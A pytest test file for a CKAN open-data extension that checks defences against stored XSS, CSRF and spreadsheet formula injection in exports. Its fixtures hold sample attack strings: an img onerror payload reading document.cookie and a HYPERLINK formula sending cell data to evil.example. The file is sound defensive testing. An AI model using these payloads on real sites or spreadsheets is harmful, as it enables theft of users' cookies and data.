"""Web-facing defences of issue 14: stored XSS and CSP (item 4), CSRF on every session POST
(item 5), formula injection in every export (item 6)."""
from __future__ import annotations

import csv
import io
import json
import re

import pytest
from bs4 import BeautifulSoup
from ckan import model
from ckan.tests import factories
from openpyxl import load_workbook

from ckanext.dongchang.kernel.audit import AuditEvent
from tests.api import Api
from tests.conftest import PLUGINS
from tests.entries import conditional, create_entry, entry_dict
from tests.factories import Bureau, Department, Official

pytestmark = [
    pytest.mark.ckan_config("ckan.plugins", PLUGINS),
    pytest.mark.usefixtures("with_plugins", "dongchang_db"),
]

SCRIPT_TITLE = '区测试局</script><img src=x onerror="alert(document.cookie)">'
PASSWORD = "dongchang-test-2026"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


@pytest.fixture
def world(app, sysadmin):
    scjg = Department(name="dcf-scjg", title="区市场监督管理局")
    bureau = Bureau()
    users = {name: Official(name=name, department=org, capacity=role, password=PASSWORD)
             for name, org, role in [("scjg-admin", scjg, "admin"),
                                     ("scjg-editor", scjg, "editor"),
                                     ("bureau-admin", bureau, "admin"),
                                     ("citizen", None, "member")]}
    return {"orgs": {"scjg": scjg, "bureau": bureau}, "users": users, "sysadmin": sysadmin,
            "api": {name: Api(app, user) for name, user in users.items()},
            "anonymous": Api(app)}


def _session(app, user):
    """A browser-like client logged in through the login form: a session cookie, no token."""
    client = app.test_client()
    form = _soup(client.get("/user/login")).find("form", attrs={"method": "post"})
    token = _csrf_field(form)
    client.post("/user/login", data={"login": user["name"], "password": PASSWORD,
                                     token["name"]: token["value"]})
    assert f"/user/{user['name']}" in client.get("/dashboard/datasets").get_data(as_text=True)
    return client


def _soup(response):
    return BeautifulSoup(response.get_data(as_text=True), "html.parser")


# --- item 4: stored XSS, CSP ------------------------------------------------------------------

def test_item4_evaluation_page_keeps_a_hostile_department_title_inert(app, world):
    factories.Organization(name="dcf-hostile", title=SCRIPT_TITLE)
    response = world["api"]["bureau-admin"].get("/dongchang/evaluation")
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    assert "</script><img" not in body and "<img src=x" not in body
    soup = BeautifulSoup(body, "html.parser")
    assert not soup.find("img", attrs={"onerror": True})
    chart = json.loads(soup.find("script", id="dongchang-evaluation-data").string)
    assert SCRIPT_TITLE in chart["labels"]  # the chart still shows the title as text
    cells = [td.get_text() for td in soup.select("table.dongchang-evaluation-mix td")]
    assert SCRIPT_TITLE in cells


def test_item4_tender_notice_keeps_line_breaks_as_text(app, world):
    entry = create_entry(world["sysadmin"], world["orgs"]["scjg"]["id"],
                         **conditional(share_class="unconditional"))
    tender = world["api"]["bureau-admin"].ok(
        "dongchang_tender_create", title="商业利用招标", dataset_ids=[entry["id"]],
        method="public_tender", notice="第一行\n<b>第二行</b>", scope="商业分析",
        bidding_start="2026-01-05", bidding_end="2026-01-30")
    soup = world["anonymous"].page(f"/tender/{tender['id']}")
    notice = soup.select_one(".dongchang-tender-notice")
    assert notice.get_text() == "第一行\n<b>第二行</b>" and notice.find("b") is None


def test_item4_every_response_sends_a_content_security_policy_and_security_headers(app, world):
    for response in (world["anonymous"].get("/dataset/"),
                     world["api"]["bureau-admin"].get("/dongchang/evaluation"),
                     app.get("/api/3/action/status_show")):
        policy = response.headers["Content-Security-Policy"]
        script_src = re.search(r"script-src ([^;]+)", policy).group(1).split()
        assert "'self'" in script_src and "'unsafe-inline'" not in script_src
        assert any(source.startswith("'nonce-") for source in script_src)
        assert "frame-ancestors 'self'" in policy and "object-src 'none'" in policy
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["X-Frame-Options"] == "SAMEORIGIN"
        assert response.headers["Referrer-Policy"] == "same-origin"


def test_item4_each_response_has_its_own_nonce(app, world):
    nonces = {re.search(r"'nonce-([^']+)'", app.get("/dataset/").headers[
        "Content-Security-Policy"]).group(1) for _ in range(3)}
    assert len(nonces) == 3


def test_item4_pages_carry_no_inline_script_the_policy_would_block(app, world):
    """Every <script> of the pages people use is a file of the site, a JSON data block, or
    carries the response's nonce; no element has an inline event handler."""
    entry = create_entry(world["sysadmin"], world["orgs"]["scjg"]["id"])
    editor = _session(app, world["users"]["scjg-editor"])
    bureau = _session(app, world["users"]["bureau-admin"])
    pages = [(app.test_client(), "/"), (app.test_client(), "/dataset/"),
             (app.test_client(), f"/dataset/{entry['name']}"),
             (app.test_client(), "/open-list/unconditional"), (app.test_client(), "/tender"),
             (app.test_client(), "/user/login"), (editor, "/dataset/new"),
             (editor, f"/dataset/{entry['name']}/resource/new"),
             (editor, "/dongchang/my-catalog"), (bureau, "/dongchang/review"),
             (bureau, "/dongchang/evaluation"), (bureau, "/dongchang/audit")]
    for client, path in pages:
        response = client.get(path)
        assert response.status_code == 200, path
        nonce = re.search(r"'nonce-([^']+)'",
                          response.headers["Content-Security-Policy"]).group(1)
        soup = _soup(response)
        for script in soup.find_all("script"):
            allowed = (script.get("src", "").startswith("/")
                       or script.get("type") == "application/json"
                       or script.get("nonce") == nonce)
            assert allowed, f"{path}: {str(script)[:120]}"
        handlers = [tag.name for tag in soup.find_all(True)
                    if any(name.startswith("on") for name in tag.attrs)]
        assert handlers == [], path


# --- item 5: CSRF -----------------------------------------------------------------------------

@pytest.fixture
def fresh_worker():
    """CKAN keeps CSRF exemptions on its process-wide CSRFProtect; start as a new worker does."""
    from ckan.config.middleware.flask_app import csrf

    kept = set(csrf._exempt_views)
    csrf._exempt_views.clear()
    yield csrf
    csrf._exempt_views.clear()
    csrf._exempt_views.update(kept)


def _csrf_field(soup):
    return soup.find("input", attrs={"name": re.compile("csrf")})


def _submitted_entry(world):
    editor = world["api"]["scjg-editor"]
    data = entry_dict(world["orgs"]["scjg"]["id"])
    data.pop("catalog_state"), data.pop("resources")
    entry = editor.ok("package_create", **data)
    editor.ok("dongchang_catalog_submit", id=entry["id"])
    return entry


def _state(world, entry):
    return world["api"]["bureau-admin"].ok("package_show", id=entry["id"])["catalog_state"]


def test_item5_an_api_token_request_does_not_open_the_publish_form_to_forged_posts(
        app, world, fresh_worker):
    entry = _submitted_entry(world)
    publish = f"/dongchang/review/{entry['id']}/publish"
    # One request without a session cookie (an API token, refused: not the Bureau) ...
    world["api"]["scjg-admin"].app.post(publish, headers=world["api"]["scjg-admin"].headers,
                                        follow_redirects=False)
    # ... then a forged POST riding on the Bureau's session cookie, without the token.
    bureau = _session(app, world["users"]["bureau-admin"])
    forged = bureau.post(publish, data={}, follow_redirects=False)
    assert forged.status_code == 400
    assert _state(world, entry) == "submitted"
    # The real form, with its token, still publishes.
    form = _soup(bureau.get("/dongchang/review")).find(
        "form", attrs={"action": re.compile(f"{entry['id']}/publish$|{entry['name']}/publish$")})
    token = _csrf_field(form)
    done = bureau.post(form["action"], data={token["name"]: token["value"]},
                       follow_redirects=False)
    assert done.status_code == 302 and _state(world, entry) == "published"


def test_item5_an_anonymous_request_does_not_open_a_decision_form_to_forged_posts(
        app, world, fresh_worker):
    entry = create_entry(world["sysadmin"], world["orgs"]["scjg"]["id"], name="cond-open",
                         **conditional(share_class="unconditional"))
    request = world["api"]["citizen"].ok(
        "dongchang_access_request_create", dataset_id=entry["id"], applicant_kind="citizen",
        purpose="social_services", use_scenario="开发养老服务地图，帮助老人就近查询服务机构")
    approve = f"/dongchang/request/{request['id']}/approve"
    app.test_client().post(approve, follow_redirects=False)  # anonymous, no cookie
    admin = _session(app, world["users"]["scjg-admin"])
    forged = admin.post(approve, data={}, follow_redirects=False)
    assert forged.status_code == 400
    shown = world["api"]["scjg-admin"].ok("dongchang_access_request_show", id=request["id"])
    assert shown["state"] == "submitted"


def test_item5_cookie_authenticated_api_calls_need_the_token_after_token_calls(
        app, world, fresh_worker):
    entry = _submitted_entry(world)  # API-token calls to /api/3/action/* happened
    world["anonymous"].post("status_show")
    bureau = _session(app, world["users"]["bureau-admin"])
    forged = bureau.post("/api/3/action/dongchang_catalog_review",
                         json={"id": entry["id"], "decision": "publish"})
    assert forged.status_code == 400
    assert _state(world, entry) == "submitted"
    page = _soup(bureau.get("/dongchang/review"))
    field = page.find("meta", attrs={"name": "csrf_field_name"})["content"]
    token = page.find("meta", attrs={"name": field})["content"]
    allowed = bureau.post("/api/3/action/dongchang_catalog_review",
                          json={"id": entry["id"], "decision": "publish"},
                          headers={"X-CSRFToken": token})
    assert allowed.status_code == 200 and _state(world, entry) == "published"


def test_item5_api_tokens_and_anonymous_calls_stay_exempt(app, world, fresh_worker):
    entry = _submitted_entry(world)
    world["api"]["bureau-admin"].ok("dongchang_catalog_review", id=entry["id"],
                                    decision="publish")
    assert world["anonymous"].ok("package_show", id=entry["id"])["id"] == entry["id"]


# --- item 6: formula injection ----------------------------------------------------------------

def _csv_rows(response):
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))


def _xlsx_cells(response):
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.get_data()))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_csv_escaped(rows):
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells, "the hostile text is in the file, prefixed"
    assert FORMULA not in cells and not any(c.startswith(("=", "+", "@")) for c in cells)


def _assert_xlsx_text(cells):
    hostile = [cell for cell in cells if cell.value == FORMULA]
    assert hostile, "the hostile text is in the workbook, as it was written"
    assert {cell.data_type for cell in hostile} == {"s"}
    assert not any(cell.data_type == "f" for cell in cells)


def test_item6_open_list_csv_writes_a_hostile_title_as_text(app, world):
    org = world["orgs"]["scjg"]["id"]
    create_entry(world["sysadmin"], org, title=FORMULA)
    create_entry(world["sysadmin"], org, title=FORMULA, **conditional())
    for open_class in ("unconditional", "conditional"):
        _assert_csv_escaped(_csv_rows(app.get(f"/open-list/{open_class}.csv")))


def test_item6_evaluation_exports_write_a_hostile_department_title_as_text(app, world):
    factories.Organization(name="dcf-formula", title=FORMULA)
    bureau = world["api"]["bureau-admin"]
    _assert_csv_escaped(_csv_rows(bureau.get("/dongchang/evaluation.csv")))
    _assert_xlsx_text(_xlsx_cells(bureau.get("/dongchang/evaluation.xlsx")))


def test_item6_audit_csv_writes_hostile_text_as_text(app, world):
    AuditEvent.record(None, "catalog_review", FORMULA, FORMULA, title=FORMULA)
    model.Session.commit()
    rows = _csv_rows(world["api"]["bureau-admin"].get("/dongchang/audit?format=csv"))
    _assert_csv_escaped(rows)


def test_item6_department_export_writes_a_hostile_title_as_text(app, world):
    org = world["orgs"]["scjg"]
    create_entry(world["sysadmin"], org["id"], title=FORMULA)
    admin = world["api"]["scjg-admin"]
    _assert_csv_escaped(_csv_rows(admin.get(f"/organization/{org['name']}/export.csv")))
    _assert_xlsx_text(_xlsx_cells(admin.get(f"/organization/{org['name']}/export.xlsx")))
